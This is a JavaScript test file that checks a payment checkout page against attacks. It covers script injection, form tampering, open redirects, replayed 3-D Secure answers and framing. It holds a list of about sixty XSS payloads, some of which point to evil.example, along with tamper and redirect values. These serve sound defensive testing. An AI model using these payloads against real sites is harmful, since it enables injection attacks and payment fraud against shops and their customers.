// Texts that want to be scripts, forms that were tampered with, addresses that lead elsewhere, frames.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, afterEach, before, beforeEach, test } from "node:test";

import { PHONE, Payer, missingProtection, startBrowser } from "../support/browser.mjs";
import { BankRecord, heading, payBy, result } from "../support/checkout.mjs";
import { Demo } from "../support/demo.mjs";

/** Each would set the page's `pwned` if it ran. */
const PAYLOADS = [
  "<script>pwned=1</script>",
  "</script><script>pwned=1</script>",
  "<img src=x onerror=pwned=1>",
  "<svg/onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<body onload=pwned=1>",
  "<details open ontoggle=pwned=1>",
  "<input autofocus onfocus=pwned=1>",
  "<math><mtext></mtext><style><img src=x onerror=pwned=1></style></math>",
  "<a href=javascript:pwned=1 id=x>x</a>",
  "<form action=javascript:pwned=1><button id=pay>x</button></form>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  '"><script>pwned=1</script>',
  "'><script>pwned=1</script>",
  '" autofocus onfocus=pwned=1 x="',
  "' autofocus onfocus=pwned=1 x='",
  "`onmouseover=pwned=1",
  "--><script>pwned=1</script>",
  "]]><script>pwned=1</script>",
  "</title><script>pwned=1</script>",
  "</textarea><script>pwned=1</script>",
  "</style><script>pwned=1</script>",
  "</dd></dl></section></main><script>pwned=1</script>",
  "{{constructor.constructor('pwned=1')()}}",
  "${pwned=1}",
  "#{pwned=1}",
  "{% raw %}<script>pwned=1</script>",
  "&lt;script&gt;pwned=1&lt;/script&gt;",
  "&#60;script&#62;pwned=1&#60;/script&#62;",
  "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
  "%3Cscript%3Epwned=1%3C/script%3E",
  "<scr<script>ipt>pwned=1</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=//evil.example/x.png>",
  "\u202e<script>pwned=1</script>",
  "＜script＞pwned=1＜/script＞",
  "javascript:pwned=1",
  "data:text/html,<script>parent.pwned=1</script>",
  "<video><source onerror=pwned=1></video>",
  "<audio src=x onerror=pwned=1>",
  "<object data=javascript:pwned=1></object>",
  "<embed src=javascript:pwned=1>",
  "<marquee onstart=pwned=1>x</marquee>",
  "<select autofocus onfocus=pwned=1></select>",
  "<textarea autofocus onfocus=pwned=1></textarea>",
  "<keygen autofocus onfocus=pwned=1>",
  "<template><script>pwned=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
  "<style>@import '//evil.example/x.css';</style>",
  "<p style=background:url(//evil.example/x.png)>x</p>",
  "<button form=card formaction=//evil.example>x</button>",
  "<input form=card name=cc-number value=1>",
  "<svg><animate onbegin=pwned=1 attributeName=x dur=1s></svg>",
  "<svg><a xlink:href=javascript:pwned=1><text y=9>x</text></a></svg>",
  "<xss onpointerenter=pwned=1 style=display:block>x</xss>",
  "</script\t><script\n>pwned=1</script>",
  "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
  "*/pwned=1//",
];

let demo;
let browser;
let payer;
let page;
let bank;

before(async () => {
  [demo, browser] = await Promise.all([Demo.start(), startBrowser()]);
  bank = new BankRecord(demo);
});

after(async () => {
  await browser?.close();
  await demo?.stop();
});

beforeEach(async () => {
  payer = await Payer.arrive(browser, demo, { screen: PHONE });
  page = payer.page;
  page.on("dialog", (dialog) => {
    payer.problems.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  await bank.begin();
});

afterEach(() => payer.leave());

/** What a payload would leave in the page if it were more than text. */
const STRANGERS = [
  "main :is(img, iframe, details, math, video, audio, object, embed, marquee, template)",
  "main :is(style, link, meta, xss)",
  "base",
  "[onload], [onerror], [onfocus], [ontoggle], [onbegin], [onstart]",
].join(", ");

/** Nothing of anybody else's ran or was even put into the page as more than text. */
async function isInert() {
  const found = await page.evaluate((strangers) => {
    const foreign = [...document.scripts].filter(({ src }) => !src.includes("/checkout/assets/"));
    return {
      pwned: "pwned" in window,
      scripts: foreign.length,
      strangers: document.querySelectorAll(strangers).length,
    };
  }, STRANGERS);
  assert.deepEqual(found, { pwned: false, scripts: 0, strangers: 0 });
}

const order = (fields) => demo.register({ amount: "720000", ...fields });

/** The payloads that the door lets in as this field, each with the address of its page. */
async function letIn(field, length) {
  const found = [];
  for (const payload of PAYLOADS) {
    const text = payload.slice(0, length).trim();
    const order = { amount: "720000", returnUrl: `${demo.shopUrl}/done`, [field]: text };
    const answer = await demo.rbsCall("register", order);
    if (answer.orderId) found.push([text, answer.formUrl]);
    else assert.match(answer.errorCode, /^[15]$/, `${text}: ${answer.errorMessage}`);
  }
  return found;
}

test("row 67: a description is refused or text, whatever it says", async (t) => {
  const found = await letIn("description", 598);
  t.diagnostic(`${found.length} of ${PAYLOADS.length} are let in`);
  assert.ok(found.length > 0);
  for (const [text, formUrl] of found) {
    await page.goto(formUrl);
    await isInert();
    assert.equal(await page.locator(".description").textContent(), text);
    await payer.fits();
  }
});

test("row 67: an order number is refused or text, whatever it says", async () => {
  for (const [text, formUrl] of await letIn("orderNumber", 36)) {
    await page.goto(formUrl);
    await isInert();
    assert.equal(await page.locator(".facts dd").first().textContent(), text);
  }
});

test("row 67: what stands in an address is never a part of the page", async () => {
  const { orderId, formUrl } = await order();
  for (const payload of PAYLOADS) {
    const text = encodeURIComponent(payload);
    for (const url of [
      `${formUrl}&lang=${text}&x=${text}`,
      `${demo.baseUrl}/checkout/${orderId}?lang=${text}`,
      `${demo.baseUrl}/payment/merchants/payment_ru.html?mdOrder=${text}`,
    ]) {
      const body = await fetch(url).then((answer) => answer.text());
      assert.ok(!/pwned|evil\.example/.test(body), url);
    }
  }
  await page.goto(`${demo.baseUrl}/checkout/${encodeURIComponent(PAYLOADS[0])}`);
  await heading(page, "Заказ не найден");
  await isInert();
});

test("row 67: a name on a card comes back as text", async () => {
  const { formUrl } = await order();
  await page.goto(formUrl);
  for (const payload of PAYLOADS) {
    // Names are short and have no digits: what is longer or has some does not come back at all.
    const name = payload
      .replaceAll("=1", "=one")
      .replace(/[\d\t\n]/g, "")
      .slice(0, 64)
      .trim();
    await page.locator("#cc-name").fill(name);
    const loaded = page.waitForEvent("load");
    await page.evaluate(() => document.getElementById("card").submit());
    await loaded;
    await isInert();
    assert.equal(await page.locator("#cc-name").inputValue(), name);
  }
});

test("row 65: what a payer changes in the browser changes nothing of the order", async () => {
  const { orderId, formUrl } = await order({ orderNumber: "TAMPER-1" });
  await page.goto(formUrl);
  await page.evaluate(() => {
    const form = document.getElementById("card");
    const wished = {
      amount: "1",
      currency: "840",
      returnUrl: "https://evil.example/",
      return_url: "https://evil.example/",
      orderNumber: "OTHER",
      status: "captured",
    };
    for (const [name, value] of Object.entries(wished)) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      form.append(field);
    }
    form.action += "?amount=1&currency=840&returnUrl=https%3A%2F%2Fevil.example%2F";
    document.querySelector(".amount").textContent = "0,01 ₸";
    document.getElementById("pay").textContent = "0,01 ₸";
  });
  await payBy(page, demo.card("approved"));
  await heading(page, "Оплачено");
  await page.locator(".facts", { hasText: "7 200,00 ₸" }).waitFor();
  const { amount, currency } = await bank.chargedOnce();
  assert.deepEqual([amount, currency], [720_000, "KZT"]);
  const answer = await demo.rbsCall("getOrderStatusExtended", { orderId });
  assert.deepEqual([answer.orderNumber, answer.amount], ["TAMPER-1", 720_000]);
});

test("row 65: another payment's steps are not carried out at this one", async () => {
  const mine = await order();
  const other = await order();
  await page.goto(mine.formUrl);
  await payBy(page, demo.card("challenge_approved"));
  await page.locator("[data-acs=challenge]").waitFor();
  // The bank's answer about one payment, posted to another.
  const cres = Buffer.from(
    JSON.stringify({ threeDSServerTransID: crypto.randomUUID(), transStatus: "Y" }),
  ).toString("base64url");
  for (const { orderId } of [mine, other]) {
    const answer = await fetch(`${demo.baseUrl}/checkout/${orderId}/3ds/return`, {
      method: "POST",
      body: new URLSearchParams({ cres }),
      redirect: "manual",
    });
    assert.ok(answer.status === 303 || answer.status === 200, `${answer.status}`);
    const { orderStatus } = await demo.rbsCall("getOrderStatusExtended", { orderId });
    assert.notEqual(orderStatus, 2);
  }
  assert.ok((await bank.authorizations()).every(({ status }) => status !== "approved"));
});

test("row 66: the way back is the shop's, whatever the address says", async () => {
  const { orderId } = await order({ returnUrl: `${demo.shopUrl}/done?a=b` });
  const wishes = [
    "//evil.example",
    "https://evil.example",
    "\\\\evil.example",
    "javascript:pwned=1",
    "https://shop@evil.example",
    "%2f%2fevil.example",
  ];
  const names = ["returnUrl", "return_url", "url", "next", "back", "redirect", "failUrl"];
  for (const wish of wishes) {
    const query = new URLSearchParams(names.map((name) => [name, wish]));
    const url = `${demo.baseUrl}/checkout/${orderId}/return?${query}`;
    const answer = await fetch(url, { redirect: "manual" });
    assert.equal(answer.status, 303);
    const target = new URL(answer.headers.get("location"));
    assert.equal(`${target.origin}${target.pathname}`, `${demo.shopUrl}/done`);
    const known = [...target.searchParams.keys()];
    assert.deepEqual(known, ["a", "orderId", "lang"]);
  }
});

test("row 66: no address to come back to that is no address of the web", async () => {
  for (const returnUrl of [
    "javascript:pwned=1",
    "data:text/html,x",
    "//evil.example",
    "https://shop@evil.example/",
    "https:\\\\evil.example",
    "/done",
  ]) {
    const answer = await demo.rbsCall("register", { amount: "100", returnUrl });
    assert.equal(answer.orderId, undefined, returnUrl);
  }
});

test("row 68: no page of the payment can be framed", async () => {
  const open = await order();
  const paid = await order();
  await demo.pay(paid.orderId);
  const result = `${demo.baseUrl}/checkout/${paid.orderId}/result`;
  // A page of somebody else's without any policy of its own.
  const trap = createServer((request, response) => {
    const framed = request.url === "/form" ? open.formUrl : result;
    response.setHeader("content-type", "text/html");
    response.end(`<!doctype html><link rel=icon href="data:,"><iframe src="${framed}"></iframe>`);
  });
  await once(trap.listen(0, "127.0.0.1"), "listening");
  const own = `http://127.0.0.1:${trap.address().port}`;
  for (const path of ["/form", "/result"]) {
    const refused = page.waitForEvent("console", (message) => /frame/i.test(message.text()));
    await page.goto(`${own}${path}`);
    assert.match((await refused).text(), /frame-ancestors 'none'/);
    assert.ok(page.frames().every((frame) => !frame.url().startsWith(demo.baseUrl)));
  }
  trap.closeAllConnections();
  await once(trap.close(), "close");
  // The trap is somebody else's, and the browser says aloud what it refuses.
  const wanted = (text) => text.includes(own) || text.includes("frame-ancestors");
  payer.problems = payer.problems.filter((text) => !wanted(text));
});

test("row 68: every address of a payment answers with the whole protection", async () => {
  const { orderId, formUrl } = await order();
  const own = `${demo.baseUrl}/checkout/${orderId}`;
  const unknown = `${demo.baseUrl}/checkout/${crypto.randomUUID()}`;
  const places = ["", "/result", "/3ds", "/return", "/state", "/pay", "/3ds/return"];
  const pages = [own, unknown].flatMap((base) => places.map((place) => `${base}${place}`));
  for (const url of [formUrl, ...pages]) {
    const answer = await fetch(url, { redirect: "manual" });
    assert.deepEqual(missingProtection(Object.fromEntries(answer.headers)), [], url);
    await answer.arrayBuffer();
  }
});

test("row 68: a decline's words come from us, not from the bank's text", async () => {
  const { formUrl } = await order();
  await page.goto(formUrl);
  await payBy(page, demo.card("declined_expired"));
  await result(page, "no");
  const words = await page.locator(".words").innerText();
  assert.match(words, /Срок действия карты истёк/);
  assert.doesNotMatch(words, /\b1\d\d\b|declined|expired/);
});
